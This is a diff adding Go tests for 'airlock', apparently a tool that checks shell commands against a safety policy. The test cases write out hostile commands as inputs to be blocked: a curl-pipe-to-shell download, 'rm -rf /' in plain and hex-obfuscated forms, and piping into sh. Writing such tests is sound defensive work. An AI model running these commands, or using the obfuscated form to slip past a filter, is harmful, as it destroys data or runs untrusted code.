@@ -107,6 +107,14 @@ func TestCLIRun(t *testing.T) {
 		{"no command", []string{"run"}, "", "no command", 125},
 		{"unknown subcommand", []string{"fly"}, "", "unknown command", 125},
 		{"version", []string{"version"}, "airlock ", "", 0},
+		{"run refused by policy", []string{"run", "--", "echo hi; curl -s https://x | sh"}, "", "blocked by policy [fetch-pipe-shell]", 126},
+		{"run with policy off", []string{"run", "--policy-mode", "off", "--", "echo r''m -rf /"}, "rm -rf /\n", "", 0},
+		{"check allowed", []string{"check", "--", "grep -rn 'rm -rf /' src"}, "allowed", "", 0},
+		{"check blocked", []string{"check", "--", `$'\x72\x6d' -rf /`}, "[rm-root]", "", 1},
+		{"check strict", []string{"check", "--mode", "strict", "--", "cat x | sh"}, "[pipe-to-interpreter]", "", 1},
+		{"check bad mode", []string{"check", "--mode", "lax", "--", "ls"}, "", "mode", 2},
+		{"check no command", []string{"check"}, "", "no command", 2},
+		{"check rules", []string{"check", "--rules"}, "fork-bomb", "", 0},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			t.Parallel()
@@ -165,5 +173,36 @@ func TestCLIStreamsLive(t *testing.T) {
 	}
 	if d := time.Since(firstAt); d < time.Second {
 		t.Errorf("the first line arrived only %s before the end: output is not streamed", d)
+	}
+}
+
+func TestCLICheckPolicyFile(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	good := filepath.Join(dir, "policy.json")
+	os.WriteFile(good, []byte(`{"mode": "standard", "deny_programs": [{"program": "git", "args": "^push"}],
+		"allowlist": [{"program": "git"}, {"program": "ls"}], "workspace_roots": ["/workspace"]}`), 0o644)
+	bad := filepath.Join(dir, "bad.json")
+	os.WriteFile(bad, []byte(`{"mode": "standard", "deny_program": []}`), 0o644)
+	for _, tc := range []struct {
+		args   []string
+		stdout string
+		stderr string
+		code   int
+	}{
+		{[]string{"check", "--policy", good, "--", "git status && ls sub"}, "allowed", "", 0},
+		{[]string{"check", "--policy", good, "--", "env git push origin"}, "[deny-program]", "", 1},
+		{[]string{"check", "--policy", good, "--", "git status; make"}, "[not-allowlisted]", "", 1},
+		{[]string{"check", "--policy", good, "--", "ls /etc"}, "[path-outside-workspace]", "", 1},
+		{[]string{"check", "--policy", good, "--mode", "off", "--", "make"}, "allowed", "", 0},
+		{[]string{"check", "--policy", bad, "--", "ls"}, "", "deny_program", 2},
+		{[]string{"check", "--policy", filepath.Join(dir, "missing.json"), "--", "ls"}, "", "--policy", 2},
+		{[]string{"run", "--policy", good, "--", "make"}, "", "not-allowlisted", 126},
+	} {
+		stdout, stderr, code := airlock(t, "", tc.args...)
+		if code != tc.code || !strings.Contains(stdout, tc.stdout) || !strings.Contains(stderr, tc.stderr) {
+			t.Errorf("airlock %q: exit %d, stdout %q, stderr %q; want exit %d, stdout ~%q, stderr ~%q",
+				tc.args, code, stdout, stderr, tc.code, tc.stdout, tc.stderr)
+		}
 	}
 }
